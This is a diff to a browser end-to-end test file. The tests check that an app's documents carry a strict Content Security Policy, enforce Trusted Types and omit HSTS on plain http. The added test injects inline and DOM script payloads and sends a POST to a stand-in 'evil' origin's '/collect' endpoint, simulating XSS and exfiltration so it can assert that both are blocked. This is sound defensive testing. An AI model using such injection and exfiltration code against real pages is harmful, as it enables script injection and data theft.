@@ -1,7 +1,7 @@
 /**
- * SEC-30, SEC-31, SEC-33, SEC-36: the headers the static host sends with the app's documents,
- * and that the browser enforces them: no inline or third-party script, no connection to an
- * origin that is not the app's, the provider's or an API's, and no framing.
+ * SEC-30, SEC-31, SEC-33, SEC-36, SEC-45, SEC-46: the headers the static host sends with the
+ * app's documents, and that the browser enforces them: no inline or third-party script, no
+ * connection to an origin that is not the app's, the provider's or an API's, and no framing.
  */
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
@@ -18,7 +18,7 @@ function directives(policy: string): Map<string, string[]> {
 }
 
 for (const path of ['/', '/auth/callback', '/profile']) {
-  test(`SEC-30 SEC-31 SEC-33 ${path} is served with a strict CSP and hardening headers`, async ({
+  test(`SEC-30 SEC-31 SEC-33 SEC-46 ${path} is served with a strict CSP and hardening headers`, async ({
     request,
   }) => {
     const config = (await (await request.get('/config.json')).json()) as {
@@ -35,6 +35,9 @@ for (const path of ['/', '/auth/callback', '/profile']) {
     expect(csp.get('object-src')).toEqual(["'none'"])
     expect(csp.get('base-uri')).toEqual(["'none'"])
     expect(csp.get('frame-ancestors')).toEqual(["'none'"])
+    // SEC-46: Trusted Types enforced, and no policy may be created.
+    expect(csp.get('require-trusted-types-for')).toEqual(["'script'"])
+    expect(csp.get('trusted-types')).toEqual(["'none'"])
     // Exactly the provider and the configured APIs besides the app itself.
     const apiOrigins = Object.values(config.apis).map((api) => new URL(api.baseUrl).origin)
     expect(new Set(csp.get('connect-src'))).toEqual(
@@ -47,6 +50,8 @@ for (const path of ['/', '/auth/callback', '/profile']) {
     expect(headers['cross-origin-opener-policy']).toBe('same-origin')
     expect(headers['x-content-type-options']).toBe('nosniff')
     expect(headers['cache-control']).toBe('no-store')
+    // SEC-45: HSTS only where TLS is served; this loopback static host is plain http.
+    expect(headers['strict-transport-security']).toBeUndefined()
 
     // SEC-30/SEC-36: every script is a file from this origin; none inline, none third-party.
     const html = await response.text()
@@ -60,34 +65,61 @@ for (const path of ['/', '/auth/callback', '/profile']) {
   })
 }
 
-test('SEC-30 the browser runs no injected inline script and connects nowhere else', async ({
+test('SEC-30 SEC-46 the browser runs no injected script and connects nowhere else', async ({
   page,
   context,
 }) => {
   const evil = await Evil.install(context)
+  await page.addInitScript(() => {
+    const seen: string[] = []
+    Object.assign(window, { violations: seen })
+    document.addEventListener('securitypolicyviolation', (event) => {
+      seen.push(event.effectiveDirective)
+    })
+  })
+  // Markup injected into the served document itself (what a reflected or stored XSS would
+  // achieve), headers untouched.
+  await page.route(`${stack.appOrigin}/`, async (route) => {
+    const response = await route.fetch()
+    const html = (await response.text()).replace(
+      '</head>',
+      '<script>window.tesseraInjected = "inline"</script></head>',
+    )
+    await route.fulfill({ response, body: html })
+  })
   await page.goto('/')
   await expect(page.getByRole('banner').getByRole('button', { name: 'Sign in' })).toBeVisible()
 
   const violations = () =>
     page.evaluate(() => (window as unknown as { violations?: string[] }).violations ?? [])
   const outcome = await page.evaluate(async (evilOrigin) => {
-    const seen: string[] = []
-    Object.assign(window, { violations: seen })
-    document.addEventListener('securitypolicyviolation', (event) => {
-      seen.push(event.effectiveDirective)
-    })
+    // Script added through the DOM (DOM XSS): a string assigned as script text is refused
+    // outright, since no Trusted Types policy exists to bless it; text built from a DOM node
+    // gets as far as execution, where Trusted Types refuse to run it.
+    const payload = 'window.tesseraInjected = "dom"'
     const script = document.createElement('script')
-    script.textContent = 'window.tesseraInjected = true'
+    let assigned: string
+    try {
+      script.textContent = payload
+      assigned = 'assigned'
+    } catch (error) {
+      assigned = error instanceof TypeError ? 'refused' : String(error)
+    }
+    script.append(document.createTextNode(payload))
     document.body.append(script)
     const exfiltrated = await fetch(`${evilOrigin}/collect`, { method: 'POST', body: 'x' }).then(
       () => 'sent',
       () => 'blocked',
     )
-    return { ran: 'tesseraInjected' in window, exfiltrated }
+    return { assigned, ran: 'tesseraInjected' in window, exfiltrated }
   }, EVIL_ORIGIN)
 
-  expect(outcome).toEqual({ ran: false, exfiltrated: 'blocked' })
-  await expect.poll(violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']))
+  expect(outcome).toEqual({ assigned: 'refused', ran: false, exfiltrated: 'blocked' })
+  await expect
+    .poll(violations)
+    .toEqual(
+      expect.arrayContaining(['script-src-elem', 'require-trusted-types-for', 'connect-src']),
+    )
   expect(evil.received).toEqual([])
 })
 
